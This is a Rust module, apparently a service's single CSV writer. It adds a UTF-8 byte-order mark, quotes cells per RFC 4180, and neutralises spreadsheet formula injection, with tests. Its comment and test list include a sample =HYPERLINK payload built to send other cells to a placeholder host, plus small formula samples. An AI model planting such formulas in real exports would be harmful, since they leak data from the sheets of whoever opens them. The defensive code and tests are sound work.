//! P10: the one CSV writer. Every CSV the service writes — the reports export, statistics,
//! the audit log, the reference lists, card batches — goes through `CsvWriter`:
//!
//! - a UTF-8 byte-order mark first, so that Excel and WPS on a Chinese Windows PC read the
//!   file as UTF-8 rather than as GBK mojibake;
//! - RFC 4180 quoting by the `csv` crate, records ended by CRLF;
//! - every cell that begins with `=`, `+`, `-`, `@`, their full-width forms `＝＋－＠`, a tab
//!   or a carriage return is prefixed with `'`, so that no spreadsheet evaluates text a
//!   reporter typed (a department of `=HYPERLINK("https://x/?"&A2,"详情")` would otherwise
//!   send other cells of the sheet to that address).

use std::borrow::Cow;
use std::io::Write;

/// The UTF-8 byte-order mark every CSV begins with.
pub const BOM: &str = "\u{feff}";

/// What a spreadsheet may take as the start of a formula (OWASP's list and the full-width
/// forms that Excel and WPS on a Chinese PC also accept).
const FORMULA_STARTS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

#[derive(Debug, thiserror::Error)]
pub enum CsvError {
    #[error("writing CSV: {0}")]
    Csv(#[from] csv::Error),
    #[error("writing CSV: {0}")]
    Io(#[from] std::io::Error),
    #[error("writing CSV: not UTF-8")]
    NotUtf8,
}

/// A cell as it is written: prefixed with `'` when a spreadsheet could read it as a formula.
pub fn neutralize(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The inverse of `neutralize`, for reading back a CSV this service wrote (a reference list
/// exported, edited and imported again): a `'` before a formula start is dropped. (A cell
/// that itself began with `'` and a formula start loses that `'`.)
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
        _ => cell,
    }
}

/// Writes CSV records to `W`, the byte-order mark first and every cell neutralized.
pub struct CsvWriter<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> CsvWriter<W> {
    pub fn new(mut out: W) -> Result<CsvWriter<W>, CsvError> {
        out.write_all(BOM.as_bytes())?;
        let inner = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .from_writer(out);
        Ok(CsvWriter { inner })
    }

    /// One record.
    pub fn row<I>(&mut self, cells: I) -> Result<(), CsvError>
    where
        I: IntoIterator,
        I::Item: AsRef<str>,
    {
        for cell in cells {
            self.inner
                .write_field(neutralize(cell.as_ref()).as_bytes())?;
        }
        // An empty record ends the one the fields above started.
        self.inner.write_record(None::<&[u8]>)?;
        Ok(())
    }

    /// Flushes and hands back the output.
    pub fn finish(self) -> Result<W, CsvError> {
        self.inner
            .into_inner()
            .map_err(|e| CsvError::Io(e.into_error()))
    }
}

/// A whole CSV in memory (a download): the records of `rows`, header first.
pub fn to_string<R, I>(rows: R) -> Result<String, CsvError>
where
    R: IntoIterator<Item = I>,
    I: IntoIterator,
    I::Item: AsRef<str>,
{
    let mut w = CsvWriter::new(Vec::new())?;
    for row in rows {
        w.row(row)?;
    }
    String::from_utf8(w.finish()?).map_err(|_| CsvError::NotUtf8)
}

#[cfg(test)]
mod tests {
    use super::*;

    const TRICKY: [&str; 16] = [
        "=HYPERLINK(\"https://x/?\"&A2,\"详情\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "\tcmd",
        "\rcmd",
        "plain, with a comma",
        "say \"hi\"\nsecond line",
        "'already quoted",
        "县农业农村局",
        "a=b-c",
        "",
    ];

    #[test]
    fn formula_starts_are_prefixed_and_nothing_else() {
        for cell in &TRICKY[..10] {
            assert_eq!(neutralize(cell), format!("'{cell}"));
        }
        for cell in &TRICKY[10..] {
            assert_eq!(neutralize(cell), *cell);
        }
    }

    /// Every cell comes back from the `csv` crate's reader as written, neutralized, and
    /// `restore` gives the original; the file starts with the BOM and ends lines with CRLF.
    #[test]
    fn round_trip_through_the_csv_reader() {
        let mut rows: Vec<Vec<&str>> = vec![vec!["id", "department", "body"]];
        for (i, cell) in TRICKY.iter().enumerate() {
            rows.push(vec![["1", "-1", "＋1"][i % 3], cell, TRICKY[15 - i]]);
        }
        let text = to_string(&rows).unwrap();
        assert!(
            text.starts_with("\u{feff}id,department,body\r\n"),
            "{text:?}"
        );
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes());
        let read: Vec<Vec<String>> = reader
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect();
        assert_eq!(read.len(), rows.len());
        for (written, back) in rows.iter().zip(&read) {
            assert_eq!(written.len(), back.len());
            for (w, b) in written.iter().zip(back) {
                assert_eq!(*b, neutralize(w), "the reader sees the neutralized cell");
                assert_eq!(restore(b), *w, "restore gives the original back");
                assert!(!b.starts_with(FORMULA_STARTS), "{b:?} could be a formula");
            }
        }
    }

    #[test]
    fn restore_leaves_an_ordinary_apostrophe() {
        assert_eq!(restore("'already quoted"), "'already quoted");
        assert_eq!(restore("'=1"), "=1");
        assert_eq!(restore("'＠x"), "＠x");
    }
}
